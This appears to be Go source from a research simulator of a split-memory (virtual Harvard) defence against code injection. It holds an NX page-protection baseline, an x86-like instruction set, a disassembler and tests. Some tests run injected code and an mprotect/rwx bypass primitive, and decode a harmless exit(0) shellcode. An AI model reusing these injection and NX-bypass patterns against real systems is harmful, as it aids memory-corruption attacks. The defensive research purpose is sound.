	p.StdinWrite([]byte{0x90, 0x90})
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != kernel.SIGSEGV {
		t.Fatalf("killed=%v sig=%v", killed, sig)
	}
	if eng.Detections() != 1 {
		t.Fatalf("detections=%d", eng.Detections())
	}
	if len(k.EventsOf(kernel.EvInjectionDetected)) != 1 {
		t.Fatal("no detection event")
	}
}

func TestNXAllowsNormalExecution(t *testing.T) {
	src := `
_start:
    mov esi, d
    load ebx, [esi]
    mov eax, 1
    int 0x80
.data
d: .word 9
`
	k, _ := newNXKernel(t)
	p := spawnSrc(t, k, src)
	k.Run(0)
	if _, status := p.Exited(); status != 9 {
		t.Fatalf("status=%d", status)
	}
}

func TestNXMprotectClearsBit(t *testing.T) {
	// mprotect(+x) clears NX: the bypass primitive.
	src := `
_start:
    mov ebx, 0
    mov ecx, 4096
    mov edx, 7             ; rwx
    mov eax, 90            ; mmap
    int 0x80
    mov esi, eax
    ; write a tiny program: mov ebx, 4; mov eax, 1; int 0x80
    mov edx, 0xbb
    storeb [esi], edx
    mov edx, 4
    storeb [esi+1], edx
    mov edx, 0
    storeb [esi+2], edx
    storeb [esi+3], edx
    storeb [esi+4], edx
    mov edx, 0xb8
    storeb [esi+5], edx
    mov edx, 1
    storeb [esi+6], edx
    mov edx, 0
    storeb [esi+7], edx
    storeb [esi+8], edx
    storeb [esi+9], edx
    mov edx, 0xcd
    storeb [esi+10], edx
    mov edx, 0x80
    storeb [esi+11], edx
    jmp esi                ; rwx mmap region: executable under NX
`
	k, _ := newNXKernel(t)
	p := spawnSrc(t, k, src)
	k.Run(0)
	exited, status := p.Exited()
	if !exited || status != 4 {
		killed, sig := p.Killed()
		t.Fatalf("exited=%v status=%d killed=%v sig=%v", exited, status, killed, sig)
	}
}

func TestEngineName(t *testing.T) {
	if New().Name() != "nx" {
		t.Fatal("name")
	}
}
