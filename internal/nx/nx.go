// Package nx implements the execute-disable-bit baseline the paper compares
// against (§2): Intel XD / AMD NX page-level protection as deployed by
// Windows DEP and PaX PAGEEXEC. Pages whose section lacks execute
// permission get the NX bit; an instruction fetch from such a page raises a
// protection fault and the process is killed.
//
// The baseline inherits the limitations the paper motivates with:
//
//   - it requires hardware support (a Machine with NXEnabled);
//   - it cannot protect mixed code-and-data pages (a page that must be
//     executable cannot be NX even if it is also writable);
//   - it can be bypassed by re-protection attacks: code already in the
//     process (via a crafted stack) can call mprotect to make the injected
//     region executable (§2, [4] / Skape & Skywing).
package nx

import (
	"splitmem/internal/cpu"
	"splitmem/internal/kernel"
	"splitmem/internal/loader"
	"splitmem/internal/paging"
	"splitmem/internal/snapshot"
)

// Engine is the execute-disable protection policy; it implements
// kernel.Protector.
type Engine struct {
	detections uint64
}

// New creates an NX engine. The machine must have NXEnabled set or the NX
// bits it writes are ignored (legacy hardware — exactly the gap the paper's
// software-only technique fills).
func New() *Engine { return &Engine{} }

// Name implements kernel.Protector.
func (e *Engine) Name() string { return "nx" }

// Detections returns how many injected-code fetches were blocked.
func (e *Engine) Detections() uint64 { return e.detections }

// The engine's only state is the detection counter; it has no per-process
// state, so the proc-state codec is a fixed empty record.
var _ kernel.ProtStateCodec = (*Engine)(nil)

// EncodeEngineState implements kernel.ProtStateCodec.
func (e *Engine) EncodeEngineState(w *snapshot.Writer) { w.U64(e.detections) }

// DecodeEngineState implements kernel.ProtStateCodec.
func (e *Engine) DecodeEngineState(r *snapshot.Reader) error {
	e.detections = r.U64()
	return r.Err()
}

// EncodeProcState implements kernel.ProtStateCodec (no per-process state).
func (e *Engine) EncodeProcState(*kernel.Process, *snapshot.Writer) {}

// DecodeProcState implements kernel.ProtStateCodec.
func (e *Engine) DecodeProcState(*kernel.Process, *snapshot.Reader) error { return nil }

// MapPage implements kernel.Protector: plain user mapping with NX on
// non-executable pages. A mixed (write+execute) page necessarily stays
// executable — the protection hole Fig. 1b describes.
func (e *Engine) MapPage(k *kernel.Kernel, p *kernel.Process, vpn uint32, frame uint32, perm byte) {
	ent := paging.Entry(0).WithFrame(frame).With(paging.Present | paging.User)
	if perm&loader.PermW != 0 {
		ent = ent.With(paging.Writable)
	}
	if perm&loader.PermX == 0 {
		ent = ent.With(paging.NX)
	}
	p.PT.Set(vpn, ent)
}

// HandleFault implements kernel.Protector: an instruction fetch that faults
// on a present NX page is an injected-code execution attempt (DEP-style
// detection at step 4 of the attack).
func (e *Engine) HandleFault(k *kernel.Kernel, p *kernel.Process, addr uint32, code uint32) kernel.FaultVerdict {
	if code&cpu.PFFetch == 0 || code&cpu.PFPresent == 0 {
		return kernel.FaultNotMine
	}
	ent := p.PT.Get(paging.VPN(addr))
	if !ent.Present() || !ent.NoExec() {
		return kernel.FaultNotMine
	}
	e.detections++
	k.Emit(kernel.Event{
		Kind: kernel.EvInjectionDetected,
		Addr: addr,
		Text: "execute-disable (NX) violation",
	})
	return kernel.FaultKill
}

// HandleDebug implements kernel.Protector.
func (e *Engine) HandleDebug(*kernel.Kernel, *kernel.Process) bool { return false }

// HandleUndefined implements kernel.Protector.
func (e *Engine) HandleUndefined(*kernel.Kernel, *kernel.Process) kernel.UDVerdict {
	return kernel.UDNotMine
}

// DataFrame implements kernel.Protector.
func (e *Engine) DataFrame(*kernel.Process, uint32) (uint32, bool) { return 0, false }

// ForkPage implements kernel.Protector (NX pages use normal COW).
func (e *Engine) ForkPage(*kernel.Kernel, *kernel.Process, *kernel.Process, uint32, paging.Entry) (paging.Entry, bool) {
	return 0, false
}

// ReleasePage implements kernel.Protector.
func (e *Engine) ReleasePage(*kernel.Kernel, *kernel.Process, uint32, paging.Entry) bool {
	return false
}

// ProtectPage implements kernel.Protector: mprotect updates both the
// writable and the NX bit — which is precisely what the re-protection
// bypass attack abuses to make its injected buffer executable.
func (e *Engine) ProtectPage(k *kernel.Kernel, p *kernel.Process, vpn uint32, ent paging.Entry, perm byte) bool {
	ne := ent.Without(paging.Writable | paging.NX)
	if perm&loader.PermW != 0 {
		ne = ne.With(paging.Writable)
	}
	if perm&loader.PermX == 0 {
		ne = ne.With(paging.NX)
	}
	p.PT.Set(vpn, ne)
	return true
}
