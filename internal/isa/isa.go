// Package isa defines the S86 instruction set architecture: a compact,
// 32-bit, little-endian register machine whose encodings deliberately match
// x86 for a handful of common opcodes (NOP, MOV r32/imm32, INT, RET,
// PUSH/POP) so that classic published x86 shellcode fragments assemble and
// execute verbatim on the simulator.
//
// S86 exists so that the split-memory technique from "An Architectural
// Approach to Preventing Code Injection Attacks" (Riley, Jiang, Xu; DSN'07 /
// TDSC 2010) can be exercised end to end: attacks inject real machine code
// into a process image, and the fetch path either reaches it (von Neumann)
// or provably cannot (virtual Harvard).
package isa

import "fmt"

// Register numbers. The aliases follow x86 order so that the x86-matching
// opcode forms (0xB8+r, 0x50+r, 0x58+r) mean the same thing they do on x86.
const (
	EAX = 0
	ECX = 1
	EDX = 2
	EBX = 3
	ESP = 4
	EBP = 5
	ESI = 6
	EDI = 7

	// NumRegs is the number of general-purpose registers.
	NumRegs = 8
)

// regNames maps register numbers to their conventional names.
var regNames = [NumRegs]string{"eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi"}

// RegName returns the conventional name of register r, or "r?" if r is out
// of range.
func RegName(r byte) string {
	if int(r) < len(regNames) {
		return regNames[r]
	}
	return fmt.Sprintf("r%d", r)
}

// RegByName returns the register number for a name such as "eax".
func RegByName(name string) (byte, bool) {
	for i, n := range regNames {
		if n == name {
			return byte(i), true
		}
	}
	return 0, false
}

// Op identifies an S86 opcode. Values are the first encoded byte except for
// the register-in-opcode families (OpMovImm, OpPush, OpPop), which occupy
// eight consecutive byte values each and are canonicalized to their base.
type Op byte

// Opcode space. Encodings marked (x86) are bit-compatible with the IA-32
// instruction of the same meaning.
const (
	OpInvalid Op = 0x00 // any undefined byte; raises #UD
	OpAdd     Op = 0x01 // add dst, src
	OpAddImm  Op = 0x05 // add reg, imm32
	OpOr      Op = 0x09 // or dst, src
	OpOrImm   Op = 0x0D // or reg, imm32
	OpUndef   Op = 0x0F // canonical guaranteed-undefined opcode; raises #UD
	OpAnd     Op = 0x21 // and dst, src
	OpAndImm  Op = 0x25 // and reg, imm32
	OpSub     Op = 0x29 // sub dst, src
	OpSubImm  Op = 0x2D // sub reg, imm32
	OpXor     Op = 0x31 // xor dst, src
	OpXorImm  Op = 0x35 // xor reg, imm32
	OpCmp     Op = 0x39 // cmp a, b
	OpCmpImm  Op = 0x3D // cmp reg, imm32
	OpPush    Op = 0x50 // push reg (x86: 0x50+r)
	OpPop     Op = 0x58 // pop reg (x86: 0x58+r)
	OpMulImm  Op = 0x6B // mul reg, imm32
	OpJb      Op = 0x72 // jump if below (unsigned), rel32
	OpJae     Op = 0x73 // jump if above or equal (unsigned), rel32
	OpJbe     Op = 0x76 // jump if below or equal (unsigned), rel32
	OpJa      Op = 0x77 // jump if above (unsigned), rel32
	OpJz      Op = 0x84 // jump if zero, rel32
	OpJnz     Op = 0x85 // jump if not zero, rel32
	OpJle     Op = 0x86 // jump if less or equal (signed), rel32
	OpStore   Op = 0x87 // store [base+disp32], src (32-bit)
	OpStoreB  Op = 0x88 // storeb [base+disp32], src (low byte)
	OpMov     Op = 0x89 // mov dst, src
	OpLoadB   Op = 0x8A // loadb dst, [base+disp32] (zero-extended byte)
	OpLoad    Op = 0x8B // load dst, [base+disp32] (32-bit)
	OpJl      Op = 0x8C // jump if less (signed), rel32
	OpLea     Op = 0x8D // lea dst, [base+disp32]
	OpJge     Op = 0x8E // jump if greater or equal (signed), rel32
	OpJg      Op = 0x8F // jump if greater (signed), rel32
	OpNop     Op = 0x90 // no operation (x86)
	OpMovImm  Op = 0xB8 // mov reg, imm32 (x86: 0xB8+r)
	OpShl     Op = 0xC1 // shl reg, imm8
	OpRet     Op = 0xC3 // ret (x86)
	OpInt3    Op = 0xCC // breakpoint; raises #BP (x86)
	OpInt     Op = 0xCD // int imm8; imm8=0x80 is the syscall gate (x86)
	OpShr     Op = 0xD3 // shr reg, imm8
	OpCall    Op = 0xE8 // call rel32 (x86)
	OpJmp     Op = 0xE9 // jmp rel32 (x86)
	OpJmpReg  Op = 0xEA // jmp reg
	OpHlt     Op = 0xF4 // halt; privileged, raises #GP in user mode (x86)
	OpMul     Op = 0xF6 // mul dst, src
	OpDiv     Op = 0xF7 // div dst, src; raises #DE on divide by zero
	OpMod     Op = 0xF8 // mod dst, src; raises #DE on divide by zero
	OpCallReg Op = 0xFF // call reg
)

// Operand shapes for each opcode family.
type form int

const (
	formNone    form = iota // op
	formRR                  // op r1 r2
	formRI                  // op r1 imm32
	formRI8                 // op r1 imm8
	formRegInOp             // (op+r) imm32? (MovImm yes; Push/Pop no)
	formMem                 // op r1 r2 disp32
	formRel                 // op rel32
	formReg                 // op r1
	formImm8                // op imm8
)

var opForms = map[Op]form{
	OpAdd: formRR, OpOr: formRR, OpAnd: formRR, OpSub: formRR,
	OpXor: formRR, OpCmp: formRR, OpMov: formRR, OpMul: formRR,
	OpDiv: formRR, OpMod: formRR,

	OpAddImm: formRI, OpOrImm: formRI, OpAndImm: formRI, OpSubImm: formRI,
	OpXorImm: formRI, OpCmpImm: formRI, OpMulImm: formRI,

	OpShl: formRI8, OpShr: formRI8,

	OpLoad: formMem, OpLoadB: formMem, OpStore: formMem, OpStoreB: formMem,
	OpLea: formMem,

	OpJb: formRel, OpJae: formRel, OpJbe: formRel, OpJa: formRel,
	OpJz: formRel, OpJnz: formRel, OpJle: formRel, OpJl: formRel,
	OpJge: formRel, OpJg: formRel, OpJmp: formRel, OpCall: formRel,

	OpJmpReg: formReg, OpCallReg: formReg,

	OpInt: formImm8,

	OpNop: formNone, OpRet: formNone, OpInt3: formNone, OpHlt: formNone,
	OpUndef: formNone,
}

var opNames = map[Op]string{
	OpAdd: "add", OpOr: "or", OpAnd: "and", OpSub: "sub", OpXor: "xor",
	OpCmp: "cmp", OpMov: "mov", OpMul: "mul", OpDiv: "div", OpMod: "mod",
	OpAddImm: "add", OpOrImm: "or", OpAndImm: "and", OpSubImm: "sub",
	OpXorImm: "xor", OpCmpImm: "cmp", OpMulImm: "mul",
	OpShl: "shl", OpShr: "shr",
	OpLoad: "load", OpLoadB: "loadb", OpStore: "store", OpStoreB: "storeb",
	OpLea: "lea",
	OpJb:  "jb", OpJae: "jae", OpJbe: "jbe", OpJa: "ja",
	OpJz: "jz", OpJnz: "jnz", OpJle: "jle", OpJl: "jl", OpJge: "jge",
	OpJg: "jg", OpJmp: "jmp", OpCall: "call",
	OpJmpReg: "jmp", OpCallReg: "call",
	OpInt: "int", OpNop: "nop", OpRet: "ret", OpInt3: "int3", OpHlt: "hlt",
	OpUndef:  "ud",
	OpMovImm: "mov", OpPush: "push", OpPop: "pop",
}

// Name returns the mnemonic for op.
func (o Op) Name() string {
	if n, ok := opNames[o]; ok {
		return n
	}
	return fmt.Sprintf("op%02x", byte(o))
}

// Instr is a decoded S86 instruction.
type Instr struct {
	Op   Op     // canonical opcode (register-in-opcode forms normalized)
	R1   byte   // first register operand (dst / base / sole register)
	R2   byte   // second register operand (src)
	Imm  uint32 // immediate, displacement, or branch target offset
	Size int    // encoded length in bytes
}

// ErrTruncated is reported by Decode when the byte window ends inside an
// instruction. The caller (the CPU fetch unit) extends the window and
// retries.
var ErrTruncated = fmt.Errorf("isa: truncated instruction")

// ErrUndefined is reported by Decode for undefined opcode bytes or malformed
// operands; the CPU turns it into a #UD fault.
var ErrUndefined = fmt.Errorf("isa: undefined instruction")

// MaxInstrLen is the longest possible S86 instruction encoding, in bytes.
const MaxInstrLen = 7

// Decode decodes a single instruction from the start of b.
func Decode(b []byte) (Instr, error) {
	if len(b) == 0 {
		return Instr{}, ErrTruncated
	}
	op := b[0]

	// Register-in-opcode families.
	switch {
	case op >= byte(OpMovImm) && op < byte(OpMovImm)+NumRegs:
		if len(b) < 5 {
			return Instr{}, ErrTruncated
		}
		return Instr{Op: OpMovImm, R1: op - byte(OpMovImm), Imm: le32(b[1:]), Size: 5}, nil
	case op >= byte(OpPush) && op < byte(OpPush)+NumRegs:
		return Instr{Op: OpPush, R1: op - byte(OpPush), Size: 1}, nil
	case op >= byte(OpPop) && op < byte(OpPop)+NumRegs:
		return Instr{Op: OpPop, R1: op - byte(OpPop), Size: 1}, nil
	}

	f, ok := opForms[Op(op)]
	if !ok {
		return Instr{Op: Op(op), Size: 1}, ErrUndefined
	}
	in := Instr{Op: Op(op)}
	switch f {
	case formNone:
		in.Size = 1
		if in.Op == OpUndef || in.Op == OpInvalid {
			return in, ErrUndefined
		}
	case formRR:
		if len(b) < 3 {
			return Instr{}, ErrTruncated
		}
		in.R1, in.R2, in.Size = b[1], b[2], 3
		if in.R1 >= NumRegs || in.R2 >= NumRegs {
			return in, ErrUndefined
		}
	case formRI:
		if len(b) < 6 {
			return Instr{}, ErrTruncated
		}
		in.R1, in.Imm, in.Size = b[1], le32(b[2:]), 6
		if in.R1 >= NumRegs {
			return in, ErrUndefined
		}
	case formRI8:
		if len(b) < 3 {
			return Instr{}, ErrTruncated
		}
		in.R1, in.Imm, in.Size = b[1], uint32(b[2]), 3
		if in.R1 >= NumRegs {
			return in, ErrUndefined
		}
	case formMem:
		if len(b) < 7 {
			return Instr{}, ErrTruncated
		}
		in.R1, in.R2, in.Imm, in.Size = b[1], b[2], le32(b[3:]), 7
		if in.R1 >= NumRegs || in.R2 >= NumRegs {
			return in, ErrUndefined
		}
	case formRel:
		if len(b) < 5 {
			return Instr{}, ErrTruncated
		}
		in.Imm, in.Size = le32(b[1:]), 5
	case formReg:
		if len(b) < 2 {
			return Instr{}, ErrTruncated
		}
		in.R1, in.Size = b[1], 2
		if in.R1 >= NumRegs {
			return in, ErrUndefined
		}
	case formImm8:
		if len(b) < 2 {
			return Instr{}, ErrTruncated
		}
		in.Imm, in.Size = uint32(b[1]), 2
	}
	return in, nil
}

// Encode appends the encoding of in to dst and returns the extended slice.
// It is the inverse of Decode for well-formed instructions.
func Encode(dst []byte, in Instr) []byte {
	switch in.Op {
	case OpMovImm:
		return append(dst, byte(OpMovImm)+in.R1, byte(in.Imm), byte(in.Imm>>8), byte(in.Imm>>16), byte(in.Imm>>24))
	case OpPush:
		return append(dst, byte(OpPush)+in.R1)
	case OpPop:
		return append(dst, byte(OpPop)+in.R1)
	}
	f := opForms[in.Op]
	dst = append(dst, byte(in.Op))
	switch f {
	case formRR:
		dst = append(dst, in.R1, in.R2)
	case formRI:
		dst = append(dst, in.R1, byte(in.Imm), byte(in.Imm>>8), byte(in.Imm>>16), byte(in.Imm>>24))
	case formRI8:
		dst = append(dst, in.R1, byte(in.Imm))
	case formMem:
		dst = append(dst, in.R1, in.R2, byte(in.Imm), byte(in.Imm>>8), byte(in.Imm>>16), byte(in.Imm>>24))
	case formRel:
		dst = append(dst, byte(in.Imm), byte(in.Imm>>8), byte(in.Imm>>16), byte(in.Imm>>24))
	case formReg:
		dst = append(dst, in.R1)
	case formImm8:
		dst = append(dst, byte(in.Imm))
	}
	return dst
}

// Len returns the encoded length of in in bytes.
func Len(in Instr) int {
	switch in.Op {
	case OpMovImm:
		return 5
	case OpPush, OpPop:
		return 1
	}
	switch opForms[in.Op] {
	case formNone:
		return 1
	case formRR, formRI8:
		return 3
	case formRI:
		return 6
	case formMem:
		return 7
	case formRel:
		return 5
	case formReg, formImm8:
		return 2
	}
	return 1
}

// EncLen returns the full encoded length of an instruction from its first
// byte alone (every S86 opcode has a fixed length). ok is false for
// undefined opcode bytes.
func EncLen(first byte) (int, bool) {
	switch {
	case first >= byte(OpMovImm) && first < byte(OpMovImm)+NumRegs:
		return 5, true
	case first >= byte(OpPush) && first < byte(OpPop)+NumRegs:
		return 1, true
	}
	f, ok := opForms[Op(first)]
	if !ok {
		return 1, false
	}
	switch f {
	case formNone:
		return 1, Op(first) != OpUndef && Op(first) != OpInvalid
	case formRR, formRI8:
		return 3, true
	case formRI:
		return 6, true
	case formMem:
		return 7, true
	case formRel:
		return 5, true
	case formReg, formImm8:
		return 2, true
	}
	return 1, false
}

// IsBranch reports whether op is a control-transfer instruction.
func (o Op) IsBranch() bool {
	switch o {
	case OpJb, OpJae, OpJbe, OpJa, OpJz, OpJnz, OpJle, OpJl, OpJge, OpJg,
		OpJmp, OpCall, OpJmpReg, OpCallReg, OpRet:
		return true
	}
	return false
}

func le32(b []byte) uint32 {
	return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
}
