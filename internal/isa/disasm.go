package isa

import (
	"fmt"
	"strings"
)

// String renders in with S86 assembler syntax. Branch targets are shown as
// relative displacements; use DisasmAt to resolve absolute targets.
func (in Instr) String() string {
	return in.render(0, false)
}

// DisasmAt renders the instruction assuming it is located at virtual address
// addr, resolving relative branch targets to absolute addresses.
func (in Instr) DisasmAt(addr uint32) string {
	return in.render(addr, true)
}

func (in Instr) render(addr uint32, abs bool) string {
	name := in.Op.Name()
	switch in.Op {
	case OpNop, OpRet, OpInt3, OpHlt, OpUndef, OpInvalid:
		return name
	case OpMovImm:
		return fmt.Sprintf("%s %s, 0x%x", name, RegName(in.R1), in.Imm)
	case OpPush, OpPop, OpJmpReg, OpCallReg:
		return fmt.Sprintf("%s %s", name, RegName(in.R1))
	case OpAdd, OpOr, OpAnd, OpSub, OpXor, OpCmp, OpMov, OpMul, OpDiv, OpMod:
		return fmt.Sprintf("%s %s, %s", name, RegName(in.R1), RegName(in.R2))
	case OpAddImm, OpOrImm, OpAndImm, OpSubImm, OpXorImm, OpCmpImm, OpMulImm:
		return fmt.Sprintf("%s %s, 0x%x", name, RegName(in.R1), in.Imm)
	case OpShl, OpShr:
		return fmt.Sprintf("%s %s, %d", name, RegName(in.R1), in.Imm)
	case OpLoad, OpLoadB, OpLea:
		return fmt.Sprintf("%s %s, [%s%s]", name, RegName(in.R1), RegName(in.R2), dispStr(in.Imm))
	case OpStore, OpStoreB:
		return fmt.Sprintf("%s [%s%s], %s", name, RegName(in.R1), dispStr(in.Imm), RegName(in.R2))
	case OpJb, OpJae, OpJbe, OpJa, OpJz, OpJnz, OpJle, OpJl, OpJge, OpJg, OpJmp, OpCall:
		if abs {
			return fmt.Sprintf("%s 0x%x", name, addr+uint32(in.Size)+in.Imm)
		}
		return fmt.Sprintf("%s .%+d", name, int32(in.Imm))
	case OpInt:
		return fmt.Sprintf("%s 0x%x", name, in.Imm)
	}
	return name
}

func dispStr(d uint32) string {
	sd := int32(d)
	switch {
	case sd == 0:
		return ""
	case sd < 0:
		return fmt.Sprintf("-0x%x", -sd)
	default:
		return fmt.Sprintf("+0x%x", sd)
	}
}

// Disassemble decodes and formats up to max instructions from code, labeling
// each line with its address starting at base. Undefined bytes are rendered
// as ".byte 0xNN" so that shellcode dumps remain readable. It is used by the
// forensics response mode and the sasm CLI.
func Disassemble(code []byte, base uint32, max int) string {
	var sb strings.Builder
	off := 0
	for n := 0; off < len(code) && (max <= 0 || n < max); n++ {
		in, err := Decode(code[off:])
		addr := base + uint32(off)
		if err != nil {
			fmt.Fprintf(&sb, "%08x:  %02x                    .byte 0x%02x\n", addr, code[off], code[off])
			off++
			continue
		}
		hex := make([]string, 0, in.Size)
		for i := 0; i < in.Size; i++ {
			hex = append(hex, fmt.Sprintf("%02x", code[off+i]))
		}
		fmt.Fprintf(&sb, "%08x:  %-21s %s\n", addr, strings.Join(hex, " "), in.DisasmAt(addr))
		off += in.Size
	}
	return sb.String()
}
