package isa

import (
	"bytes"
	"math/rand"
	"testing"
	"testing/quick"
)

// allOps lists every defined canonical opcode with a representative operand
// shape for round-trip testing.
func allOps() []Instr {
	return []Instr{
		{Op: OpNop}, {Op: OpRet}, {Op: OpInt3}, {Op: OpHlt},
		{Op: OpMovImm, R1: EAX, Imm: 0xdeadbeef},
		{Op: OpMovImm, R1: EDI, Imm: 1},
		{Op: OpPush, R1: EBP}, {Op: OpPop, R1: EBX},
		{Op: OpAdd, R1: EAX, R2: ECX}, {Op: OpSub, R1: ESP, R2: EDX},
		{Op: OpAnd, R1: EBX, R2: ESI}, {Op: OpOr, R1: EDI, R2: EAX},
		{Op: OpXor, R1: EAX, R2: EAX}, {Op: OpCmp, R1: ECX, R2: EDX},
		{Op: OpMov, R1: EBP, R2: ESP},
		{Op: OpMul, R1: EAX, R2: EBX}, {Op: OpDiv, R1: EAX, R2: ECX},
		{Op: OpMod, R1: EDX, R2: EDI},
		{Op: OpAddImm, R1: ESP, Imm: 64}, {Op: OpSubImm, R1: ESP, Imm: 64},
		{Op: OpAndImm, R1: EAX, Imm: 0xff}, {Op: OpOrImm, R1: EAX, Imm: 0x100},
		{Op: OpXorImm, R1: ECX, Imm: ^uint32(0)},
		{Op: OpCmpImm, R1: EBX, Imm: 10}, {Op: OpMulImm, R1: ESI, Imm: 3},
		{Op: OpShl, R1: EAX, Imm: 4}, {Op: OpShr, R1: EDX, Imm: 31},
		{Op: OpLoad, R1: EAX, R2: EBP, Imm: 0xfffffff8},
		{Op: OpLoadB, R1: ECX, R2: ESI, Imm: 0},
		{Op: OpStore, R1: EBP, R2: EAX, Imm: 8},
		{Op: OpStoreB, R1: EDI, R2: EDX, Imm: 1},
		{Op: OpLea, R1: ESI, R2: ESP, Imm: 16},
		{Op: OpJmp, Imm: 0x100}, {Op: OpCall, Imm: 0xfffffff0},
		{Op: OpJz, Imm: 4}, {Op: OpJnz, Imm: 4}, {Op: OpJl, Imm: 4},
		{Op: OpJge, Imm: 4}, {Op: OpJg, Imm: 4}, {Op: OpJle, Imm: 4},
		{Op: OpJb, Imm: 4}, {Op: OpJae, Imm: 4}, {Op: OpJa, Imm: 4},
		{Op: OpJbe, Imm: 4},
		{Op: OpJmpReg, R1: EAX}, {Op: OpCallReg, R1: EDX},
		{Op: OpInt, Imm: 0x80},
	}
}

func TestEncodeDecodeRoundTrip(t *testing.T) {
	for _, want := range allOps() {
		enc := Encode(nil, want)
		if len(enc) != Len(want) {
			t.Errorf("%v: encoded %d bytes, Len says %d", want, len(enc), Len(want))
		}
		got, err := Decode(enc)
		if err != nil {
			t.Errorf("%v: decode error: %v", want, err)
			continue
		}
		want.Size = len(enc)
		if got != want {
			t.Errorf("round trip: got %+v want %+v", got, want)
		}
	}
}

func TestEncLenMatchesDecode(t *testing.T) {
	for _, in := range allOps() {
		enc := Encode(nil, in)
		n, ok := EncLen(enc[0])
		if !ok {
			t.Errorf("%v: EncLen says undefined", in)
			continue
		}
		if n != len(enc) {
			t.Errorf("%v: EncLen=%d, encoding is %d bytes", in, n, len(enc))
		}
	}
}

func TestDecodeTruncated(t *testing.T) {
	for _, in := range allOps() {
		enc := Encode(nil, in)
		for cut := 0; cut < len(enc); cut++ {
			if _, err := Decode(enc[:cut]); err != ErrTruncated {
				// A cut of length >=1 may also decode as a shorter valid
				// instruction only if the first byte is a 1-byte op, which
				// cannot happen here because cut < len(enc) and len>=1 means
				// cut==0 for 1-byte ops.
				if cut == 0 {
					t.Errorf("%v cut=0: want ErrTruncated, got %v", in, err)
				}
			}
		}
	}
}

func TestDecodeUndefined(t *testing.T) {
	undef := [][]byte{
		{0x00}, {0x0F}, {0x02}, {0x17}, {0xAB}, {0xFE}, {0xF0},
		{byte(OpMov), 9, 0},                // bad register
		{byte(OpLoad), 0, 200, 0, 0, 0, 0}, // bad base register
	}
	for _, b := range undef {
		if _, err := Decode(b); err != ErrUndefined {
			t.Errorf("Decode(% x): want ErrUndefined, got %v", b, err)
		}
	}
}

// TestPaperShellcodeDecodes verifies that the exit(0) shellcode published in
// the paper (Section 6.1.3) decodes as the same instruction sequence on S86.
func TestPaperShellcodeDecodes(t *testing.T) {
	shellcode := []byte(
		"\xbb\x00\x00\x00\x00" + // mov ebx, 0
			"\xb8\x01\x00\x00\x00" + // mov eax, 1
			"\xcd\x80") // int 0x80
	want := []Instr{
		{Op: OpMovImm, R1: EBX, Imm: 0, Size: 5},
		{Op: OpMovImm, R1: EAX, Imm: 1, Size: 5},
		{Op: OpInt, Imm: 0x80, Size: 2},
	}
	off := 0
	for i, w := range want {
		got, err := Decode(shellcode[off:])
		if err != nil {
			t.Fatalf("instr %d: %v", i, err)
		}
		if got != w {
			t.Fatalf("instr %d: got %+v want %+v", i, got, w)
		}
		off += got.Size
	}
	if off != len(shellcode) {
		t.Fatalf("consumed %d of %d bytes", off, len(shellcode))
	}
}

// Property: any byte string either fails to decode or decodes to an
// instruction that re-encodes to the same prefix bytes.
func TestQuickDecodeEncodeIdentity(t *testing.T) {
	f := func(b []byte) bool {
		in, err := Decode(b)
		if err != nil {
			return true
		}
		enc := Encode(nil, in)
		return bytes.Equal(enc, b[:in.Size])
	}
	cfg := &quick.Config{
		MaxCount: 5000,
		Rand:     rand.New(rand.NewSource(42)),
	}
	if err := quick.Check(f, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestRegNames(t *testing.T) {
	names := []string{"eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi"}
	for i, n := range names {
		if RegName(byte(i)) != n {
			t.Errorf("RegName(%d) = %q, want %q", i, RegName(byte(i)), n)
		}
		r, ok := RegByName(n)
		if !ok || r != byte(i) {
			t.Errorf("RegByName(%q) = %d,%v want %d", n, r, ok, i)
		}
	}
	if _, ok := RegByName("r8"); ok {
		t.Error("RegByName(r8) should fail")
	}
	if RegName(12) != "r12" {
		t.Errorf("RegName(12) = %q", RegName(12))
	}
}

func TestDisassembleShellcode(t *testing.T) {
	shellcode := []byte("\xbb\x00\x00\x00\x00\xb8\x01\x00\x00\x00\xcd\x80")
	out := Disassemble(shellcode, 0xbf000000, 0)
	for _, want := range []string{"mov ebx, 0x0", "mov eax, 0x1", "int 0x80", "bf000000:"} {
		if !contains(out, want) {
			t.Errorf("disassembly missing %q:\n%s", want, out)
		}
	}
}

func TestDisassembleUndefinedBytes(t *testing.T) {
	out := Disassemble([]byte{0x0F, 0x90}, 0, 0)
	if !contains(out, ".byte 0x0f") || !contains(out, "nop") {
		t.Errorf("unexpected disassembly:\n%s", out)
	}
}

func TestIsBranch(t *testing.T) {
	branches := []Op{OpJmp, OpCall, OpRet, OpJz, OpJmpReg, OpCallReg, OpJa}
	for _, op := range branches {
		if !op.IsBranch() {
			t.Errorf("%v should be a branch", op)
		}
	}
	for _, op := range []Op{OpNop, OpMov, OpLoad, OpInt} {
		if op.IsBranch() {
			t.Errorf("%v should not be a branch", op)
		}
	}
}

func contains(s, sub string) bool { return bytes.Contains([]byte(s), []byte(sub)) }

// TestDisasmGolden pins the assembly rendering of every operand shape.
func TestDisasmGolden(t *testing.T) {
	tests := []struct {
		in   Instr
		want string
	}{
		{Instr{Op: OpNop}, "nop"},
		{Instr{Op: OpRet}, "ret"},
		{Instr{Op: OpHlt}, "hlt"},
		{Instr{Op: OpInt3}, "int3"},
		{Instr{Op: OpUndef}, "ud"},
		{Instr{Op: OpMovImm, R1: EAX, Imm: 0x2a}, "mov eax, 0x2a"},
		{Instr{Op: OpMov, R1: EBP, R2: ESP}, "mov ebp, esp"},
		{Instr{Op: OpAddImm, R1: ESP, Imm: 16}, "add esp, 0x10"},
		{Instr{Op: OpShl, R1: ECX, Imm: 4}, "shl ecx, 4"},
		{Instr{Op: OpLoad, R1: EAX, R2: EBP, Imm: 8}, "load eax, [ebp+0x8]"},
		{Instr{Op: OpLoad, R1: EAX, R2: EBP, Imm: 0xfffffffc}, "load eax, [ebp-0x4]"},
		{Instr{Op: OpLoad, R1: EAX, R2: ESI, Imm: 0}, "load eax, [esi]"},
		{Instr{Op: OpStoreB, R1: EDI, R2: EDX, Imm: 1}, "storeb [edi+0x1], edx"},
		{Instr{Op: OpLea, R1: ESI, R2: ESP, Imm: 64}, "lea esi, [esp+0x40]"},
		{Instr{Op: OpPush, R1: EBX}, "push ebx"},
